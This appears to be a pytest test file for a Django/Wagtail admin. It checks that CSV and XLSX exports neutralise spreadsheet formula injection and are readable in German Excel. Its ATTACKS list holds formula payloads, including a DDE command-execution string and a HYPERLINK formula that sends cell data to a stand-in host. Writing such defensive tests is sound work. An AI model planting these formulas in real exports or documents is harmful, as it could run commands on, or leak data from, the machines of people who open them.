"""Every CSV/XLSX export of the admin: no formula runs when it is opened, and German
Excel reads it (UTF-8 with BOM, semicolons, TT.MM.JJJJ)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import ParticipantFactory
from tests.housing.factories import HomeVisitFactory, LandlordFactory

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?"&B2,"click")',
    "=cmd|'/C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(response):
    body = _body(response)
    assert body.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_landlord_export_neutralises_formulas(coordinator_client, attack):
    LandlordFactory(name=attack)
    response = coordinator_client.get(reverse("landlords:index"), {"export": "csv"})
    rows = _csv_rows(response)
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + attack]


def test_visit_export_neutralises_agreed_actions_in_csv_and_xlsx(coordinator_client):
    attack = ATTACKS[0]
    HomeVisitFactory(agreed_actions=attack, observations="Alles gut")
    rows = _csv_rows(coordinator_client.get(reverse("visits:index"), {"export": "csv"}))
    assert "'" + attack in rows[1]
    assert "Alles gut" in rows[1]  # ordinary text is untouched

    response = coordinator_client.get(reverse("visits:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(_body(response))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    attacked = [cell for cell in cells if attack in str(cell.value)]
    assert attacked and all(c.data_type == "s" and c.value == "'" + attack for c in attacked)


def test_csv_opens_in_german_excel_with_umlauts_and_german_dates(coordinator_client):
    ParticipantFactory(given_names="Ștefan", family_name="Rădulescu-Müller")
    response = coordinator_client.get(reverse("participants:index"), {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv_rows(response)
    assert len(rows[0]) > 3  # separated by semicolons, not all in one column
    assert rows[1][:2] == ["Rădulescu-Müller", "Ștefan"]
    assert "17.05.1985" in rows[1]


def test_phone_numbers_stay_readable_numbers_stay_numbers(coordinator_client):
    LandlordFactory(name="Wohnbau Süd", phone="+49 2331 123456")
    rows = _csv_rows(coordinator_client.get(reverse("landlords:index"), {"export": "csv"}))
    # A leading "+" would be run as a formula; the apostrophe keeps it text.
    assert "'+49 2331 123456" in rows[1]


def test_the_site_history_export_is_covered_too(coordinator_client):
    from wagtail.log_actions import log

    from core.roles import Role
    from tests.factories import UserFactory

    # A staff user's display name is written into the export; it can carry a formula too.
    actor = UserFactory(username="mallory", first_name="=1+1", last_name="", role=Role.COORDINATOR)
    log(instance=LandlordFactory(), action="wagtail.edit", user=actor)
    rows = _csv_rows(
        coordinator_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    )
    assert any("'=1+1" in row for row in rows[1:])


def test_a_lazy_translation_is_checked_and_written_as_text():
    from django.utils.functional import lazy

    from core.exports import neutralise

    lazy_text = lazy(lambda: "=1+1", str)()
    assert neutralise(lazy_text) == "'=1+1"
    assert type(neutralise(lazy(lambda: "Tage", str)())) is str


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(_body(response))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _every_export_view():
    """(url name, model, list_export) of every admin list that exports."""
    from wagtail.admin.viewsets import viewsets

    reverse("wagtailadmin_home")  # the registry fills when the admin's URLs load
    for viewset in viewsets.viewsets:
        fields = getattr(viewset, "list_export", None)
        model = getattr(viewset, "model", None)
        if isinstance(fields, list | tuple) and fields and model is not None:
            yield viewset.get_url_name("index"), model, fields


def _raw_choice_values(model, fields):
    """Per exported column: the stored values of a choice field whose label differs."""
    raw = {}
    for index, accessor in enumerate(fields):
        *path, name = accessor.split(".")
        owner = model
        for step in path:
            try:
                owner = owner._meta.get_field(step).related_model
            except Exception:  # a method, not a relation: no choices to check
                owner = None
                break
        try:
            model_field = owner._meta.get_field(name) if owner else None
        except Exception:  # a method or property: no choices to check
            model_field = None
        if model_field is not None and not model_field.is_relation and model_field.choices:
            raw[index] = {key for key, label in model_field.flatchoices if str(key) != str(label)}
    return raw


@pytest.mark.django_db
def test_every_export_writes_german_labels_not_stored_values(coordinator, coordinator_client):
    """Every admin list that exports, in CSV and XLSX: a column of a choice field holds
    the German label ("laufend", "ausgestellt", "Arabisch"), never the stored value
    ("running", "issued", "ar"); yes/no and decimals in CSV are German too."""
    from certificates import services
    from courses.models import CourseStatus
    from tests.certificates.factories import course_with_exam, fake_rendered, passed_enrolment

    course = course_with_exam(status=CourseStatus.RUNNING)
    participant = ParticipantFactory(preferred_language="ar", languages=["de", "ar"])
    fake_rendered(services.issue_certificate(passed_enrolment(course, participant), coordinator))
    LandlordFactory()
    HomeVisitFactory()

    checked = 0
    for url_name, model, fields in _every_export_view():
        raw = _raw_choice_values(model, fields)
        for export in ("csv", "xlsx"):
            response = coordinator_client.get(reverse(url_name), {"export": export})
            assert response.status_code == 200, url_name
            rows = _csv_rows(response) if export == "csv" else _xlsx_rows(response)
            for row in rows[1:]:
                checked += 1
                for index, values in raw.items():
                    assert row[index] not in values, (url_name, export, fields[index], row[index])
                if export == "csv":
                    assert not {"True", "False"} & set(row), (url_name, row)
    assert checked > 10

    courses = _csv_rows(coordinator_client.get(reverse("courses:index"), {"export": "csv"}))
    assert courses[1][1] == "laufend"
    certificates = _xlsx_rows(
        coordinator_client.get(reverse("certificates:index"), {"export": "xlsx"})
    )
    assert "ausgestellt" in certificates[1]
    people = _csv_rows(coordinator_client.get(reverse("participants:index"), {"export": "csv"}))
    assert "Arabisch" in people[1]


def test_csv_cells_in_german_and_xlsx_cells_typed():
    from decimal import Decimal

    from core.exports import _german_value

    assert _german_value(Decimal("66.7")) == "66,7"
    assert _german_value(Decimal("80.0")) == "80"
    assert _german_value(True) == "ja" and _german_value(False) == "nein"
    assert _german_value(12) == 12
